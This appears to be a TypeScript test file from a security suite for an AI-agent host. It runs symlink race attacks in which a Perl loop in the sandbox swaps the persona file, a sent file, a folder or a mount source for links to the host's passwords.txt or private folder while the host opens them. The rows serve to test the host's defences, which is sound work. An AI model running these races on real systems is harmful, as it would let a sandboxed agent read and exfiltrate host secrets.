/**
 * Swaps that race the host: what is checked and what is opened must be the same thing (F29, F30). A second
 * conversation of the attacker's group has a sandbox of its own on the same folder, and swaps there.
 */
import type { House } from "../house.ts";
import type { Row, Stage } from "../row.ts";
import { afresh, shell } from "./host-files.ts";

const STOP = "stop-racing";

/** Swaps `name` between `kind` and a link to `to`, as fast as it can. Both are made beside it and moved over it. */
function racer(name: string, kind: "file" | "folder", to: string): string {
  const made =
    kind === "file"
      ? `open(my $f, ">", "$n.real"); print $f "harmless"; close $f; rename("$n.real", $n);`
      : `rename($n, "$n.gone") if -d $n && !-l $n; unlink $n; rename("$n.gone", $n);`;
  const linked =
    kind === "file"
      ? `symlink($t, "$n.link"); rename("$n.link", $n);`
      : `rename($n, "$n.gone"); symlink($t, $n);`;
  // Faster, and the engine's own watching of the folder drowns in news, which stops the race.
  const nap = "select(undef, undef, undef, 0.002);";
  return `perl -e 'my ($n, $t) = @ARGV; until (-e "/workspace/group/${STOP}") { ${linked} ${nap} ${made} ${nap} }' '${name}' '${to}'`;
}

/** @param opens makes the host open it once */
async function race(
  { house, raceMs }: Stage,
  swap: string,
  opens: () => Promise<unknown>,
): Promise<string | undefined> {
  await house.say("ours", shell(`rm -f /workspace/group/${STOP}`));
  const racing = house.say("ours2", shell(swap), { patienceMs: raceMs + 60_000 });
  racing.catch(() => undefined); // waited for below
  let times = 0;
  try {
    const end = performance.now() + raceMs;
    while (performance.now() < end) {
      await opens();
      times += 1;
    }
  } finally {
    await house.say("ours", shell(`touch /workspace/group/${STOP}; rm -rf /workspace/group/IDENTITY.md*`));
    await racing;
  }
  return times === 0 ? "nothing was opened in time" : undefined;
}

const file = (house: House) => `${house.base}/passwords.txt`;

export const RACES: readonly Row[] = [
  {
    class: "races",
    tries: "the persona, swapped for a link while it is read",
    run: (stage) =>
      race(stage, racer("/workspace/group/IDENTITY.md", "file", file(stage.house)), () => afresh(stage.house)),
  },
  {
    class: "races",
    tries: "a file, swapped for a link while it is sent",
    run: (stage) =>
      race(stage, racer("/workspace/group/sent.txt", "file", file(stage.house)), () =>
        stage.house.say("ours", `tool: send_file ${JSON.stringify({ path: "sent.txt" })}`),
      ),
  },
  {
    class: "races",
    tries: "a file's folder, swapped for a link while it is sent",
    run: async (stage) => {
      await stage.house.say("ours", shell("mkdir -p sub; echo harmless > sub/notes.txt"));
      return await race(stage, racer("/workspace/group/sub", "folder", `${stage.house.base}/private`), () =>
        stage.house.say("ours", `tool: send_file ${JSON.stringify({ path: "sub/notes.txt" })}`),
      );
    },
  },
  {
    class: "races",
    tries: "the source of a mount, swapped for a link while a sandbox starts",
    run: (stage) =>
      race(
        stage,
        racer("/workspace/extra/shared/docs", "folder", `${stage.house.base}/private`),
        async () => {
          await stage.house.command("ours", "/new");
          await stage.house.say("ours", shell("cat /workspace/extra/docs/* /workspace/extra/shared/docs/*"));
        },
      ),
  },
];
